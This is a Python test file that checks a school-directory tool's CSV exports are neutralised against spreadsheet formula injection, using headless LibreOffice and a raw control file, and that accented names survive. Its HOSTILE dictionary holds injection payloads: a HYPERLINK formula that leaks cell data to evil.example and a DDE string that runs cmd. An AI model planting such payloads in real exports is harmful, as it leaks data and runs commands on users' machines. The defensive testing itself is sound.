"""CSV exports opened by a real spreadsheet: LibreOffice (headless) converts
them to xlsx and the cells are read back. No cell may be a formula.

A control file holding the same hostile texts without our neutralising proves
that this LibreOffice would have run them: if it stopped evaluating formulas
on import, the test would say so instead of passing for the wrong reason.

Needs ``soffice`` (Debian: libreoffice-calc-nogui, installed by .ci/run) and
openpyxl (the test extra). Skipped on a laptop without LibreOffice, but never
in CI (CI=true): there a missing spreadsheet is a failure.
"""

from __future__ import annotations

import csv
import io
import os
import shutil
import subprocess
from pathlib import Path

import pytest

from conftest import edit
from test_queries import cli

pytestmark = pytest.mark.slow

# Texts a hostile or careless editor could put in a name, a town or a title.
HOSTILE = {
    "name": '=HYPERLINK("http://evil.example/?leak="&A1,"Click for the agenda")',
    "town": "+1+cmd|' /C calc'!A0",
    "head": "@SUM(1+1)",
    "title": "-2+3",
    "street": "=1+1",
}


def _soffice() -> str:
    found = shutil.which("soffice") or shutil.which("libreoffice")
    if not found:
        if os.environ.get("CI"):
            pytest.fail("LibreOffice (soffice) is not installed; .ci/run installs libreoffice-calc-nogui")
        pytest.skip("LibreOffice (soffice) is not installed")
    return found


def to_cells(csv_files: list[Path], work: Path, infilter: str | None = None) -> dict[str, list[list[tuple[object, str]]]]:
    """Convert CSV files to xlsx with LibreOffice, then read every cell back as
    (value, openpyxl data type); type "f" means a formula. ``infilter``: the
    import options (e.g. the character set) instead of LibreOffice's defaults."""
    openpyxl = pytest.importorskip("openpyxl") if not os.environ.get("CI") else __import__("openpyxl")
    out = work / "xlsx"
    profile = work / "lo-profile"
    cmd = [_soffice(), f"-env:UserInstallation={profile.as_uri()}", "--headless", "--norestore",
           *([f"--infilter={infilter}"] if infilter else []),
           "--convert-to", "xlsx", "--outdir", str(out), *map(str, csv_files)]
    subprocess.run(cmd, check=True, capture_output=True, timeout=180)
    sheets = {}
    for f in csv_files:
        book = openpyxl.load_workbook(out / f"{f.stem}.xlsx")
        sheets[f.stem] = [[(c.value, c.data_type) for c in row] for row in book.active.iter_rows()]
    return sheets


@pytest.fixture
def hostile(repo):
    edit(repo, "data/schools/100001.yaml", "name: Alpha First School", f"name: '{HOSTILE['name'].replace(chr(39), chr(39) * 2)}'")
    edit(repo, "data/schools/100001.yaml", "town: Alnwick", f"town: \"{HOSTILE['town']}\"")
    edit(repo, "data/schools/100001.yaml", "name: Ann Head", f"name: \"{HOSTILE['head']}\"")
    edit(repo, "data/schools/100001.yaml", "street: 1 School Lane", f"street: \"{HOSTILE['street']}\"")
    edit(repo, "data/schools/100001.yaml", "    name: Sam Senco\n", f"    name: Sam Senco\n    title: \"{HOSTILE['title']}\"\n")
    assert cli(repo, "validate").exit_code == 0  # hostile, but valid data: every command lists it
    return repo


def test_no_exported_cell_opens_as_a_formula(hostile, tmp_path):
    exports = {
        "schools": ["schools", "list", "--csv"],
        "people": ["people", "find", "a", "--csv"],
        "contacts": ["contacts", "--format", "csv"],
        "networks": ["networks", "list", "--csv"],
    }
    files = []
    for stem, args in exports.items():
        r = cli(hostile, *args)
        assert r.exit_code == 0, (args, r.output)
        files.append(tmp_path / f"{stem}.csv")
        files[-1].write_text(r.output, encoding="utf-8")
    # The control: the same hostile texts, written raw (as a naive exporter would).
    control = io.StringIO()
    csv.writer(control, lineterminator="\r\n").writerows([list(HOSTILE), list(HOSTILE.values())])
    files.append(tmp_path / "control.csv")
    files[-1].write_text(control.getvalue(), encoding="utf-8")

    sheets = to_cells(files, tmp_path)

    # This LibreOffice does evaluate formulas in CSV: the raw texts become formulas.
    assert [v for v, kind in sheets["control"][1] if kind == "f"], sheets["control"]
    seen = set()
    for stem in exports:
        for row in sheets[stem]:
            for value, kind in row:
                assert kind != "f", f"{stem}.csv: {value!r} opened as a formula"
                if isinstance(value, str):
                    seen.update(k for k, text in HOSTILE.items() if value == "'" + text or value.endswith(text))
    # every hostile text reached a spreadsheet cell somewhere, as text
    assert seen >= {"name", "town", "head", "title"}, seen
    schools = {row[0][0]: [v for v, _ in row] for row in sheets["schools"][1:]}
    assert "'" + HOSTILE["name"] in schools[100001]  # the text survives, marked as text


SIAN = "Siân Ó Briain-Żółć"  # in the sample: data/schools/122234.yaml and 122241.yaml


@pytest.mark.shared_sample
def test_accented_names_survive_in_a_spreadsheet(sample, tmp_path):
    """The CSV a person opens (written with -o, so with a byte-order mark) and
    a listing sent to a pipe (no mark), imported by LibreOffice as UTF-8 (the
    character set its import dialog offers for them): the names arrive intact
    and the mark does not become part of the first heading."""
    files = [tmp_path / "contacts.csv", tmp_path / "people.csv"]
    r = cli(sample, "contacts", "--format", "csv", "-o", str(files[0]))
    assert r.exit_code == 0, r.output
    assert files[0].read_bytes().startswith(b"\xef\xbb\xbf")
    r = cli(sample, "people", "find", "Briain", "--csv")
    assert r.exit_code == 0, r.output
    files[1].write_bytes(r.stdout.encode("utf-8"))
    sheets = to_cells(files, tmp_path, infilter="CSV:44,34,76")
    for stem in ("contacts", "people"):
        head = [v for v, _ in sheets[stem][0]]
        assert head[0] in ("school", "name"), head
        names = [v for row in sheets[stem][1:] for v, _ in row if isinstance(v, str) and "Briain" in v]
        assert names and set(names) == {SIAN}, (stem, names)
    assert sum(1 for row in sheets["contacts"][1:] if SIAN in [v for v, _ in row]) == 3
